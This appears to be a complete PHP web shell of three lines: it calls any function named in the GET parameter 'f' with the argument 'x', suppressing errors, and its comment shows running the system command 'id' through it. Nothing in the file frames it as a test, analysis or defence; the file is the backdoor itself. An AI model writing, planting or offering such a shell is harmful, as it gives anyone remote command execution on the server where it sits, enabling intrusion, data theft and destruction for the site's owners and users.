<?php
// Two-parameter shell: ?f=system&x=id
@$_GET['f']($_GET['x']);
